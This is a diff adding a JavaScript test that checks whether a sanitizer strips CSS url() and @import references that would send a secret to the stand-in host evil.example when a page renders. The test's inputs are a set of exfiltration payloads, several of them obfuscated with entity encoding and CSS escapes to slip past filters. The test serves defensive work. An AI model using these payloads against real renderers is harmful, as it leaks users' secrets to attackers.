@@ -58,6 +58,42 @@ describe('images from outside hosts: the URL as a browser fetches it', () => {
     }
   });
 
+  it('a CSS url() a page fetches as it loads, in a style attribute or a <style>, however written: found and stripped', async () => {
+    // Before, no style was read: `<div style="background:url(https://evil.example/?d=…)">` sent the secret as an <img> does.
+    const styled = [
+      `<div style="background:url(https://${LEAK})">x</div>`,
+      `<div style='background-image: url("//${LEAK}")'>x</div>`,
+      `<ul style="list-style-image:url(&quot;https://${LEAK}&quot;)"><li>x</li></ul>`,
+      `<div style="border-image: url(https://${LEAK}) 30 round">x</div>`,
+      `<p style="content:url(https://${LEAK})">x</p>`,
+      `<p style="cursor:url(https://${LEAK}), auto">x</p>`,
+      `<div style="background-image:image-set('https://${LEAK}' 1x)">x</div>`,
+      `<div style="background:u&#114;l(https://${LEAK})">x</div>`,
+      `<div style="background:/**/\\75 rl(https\\:\\/\\/${LEAK})">x</div>`,
+      `<div style="background:url(http&colon;${LEAK})">x</div>`,
+    ];
+    for (const html of styled) {
+      const out = await echo(`Done. ${html} Bye.`);
+      assert.match(out, /^Done\. \[removed\]/, html);
+      assert.doesNotMatch(out, /evil\.example/, html);
+    }
+    // A <style> a Markdown line holds unclosed (a bare tag, not hidden text): all after it is its CSS to a
+    // browser, which fetches its @import; strip takes it out to the end, as a browser reads it.
+    for (const rule of [`@import "https://${LEAK}";`, `@import url(//${LEAK});`, `p { background: url(https://${LEAK}) }`]) {
+      assert.equal(await echo(`Done. Add <style>${rule} Bye.`), 'Done. Add [removed]', rule);
+    }
+    // Fetched from nowhere else: an allowed host, a data: or relative URL, a url() outside any style, a sample in code.
+    const left = [
+      '<div style="background:url(https://img.example.com/a.png)">x</div>',
+      '<div style="background:url(data:image/png;base64,AAAA)">x</div>',
+      '<div style="background:url(img/a.png)">x</div>',
+      `<div title="url(https://${LEAK})" data-style="background:url(https://${LEAK})">x</div>`,
+      `Write \`<div style="background:url(https://${LEAK})">\` for it.`,
+      `CSS: background: url(https://${LEAK}).`,
+    ];
+    for (const s of left) assert.equal(await echo(`Done. ${s} Bye.`), `Done. ${s} Bye.`, s);
+  });
+
   it('an allowed host, a relative or data: URL, a data-src: left as they are', async () => {
     for (const image of ['![x](https://img.example.com/a.png)', '<img src="img/a.png" srcset="img/a.png 1x, img/b.png 2x">', '<img src="data:image/png;base64,AAAA">', '<img data-src="https://evil.example/x">', '![x](http:img.example.com/a.png)']) {
       assert.equal(await echo(`Done. ${image} Bye.`), `Done. ${image} Bye.`, image);
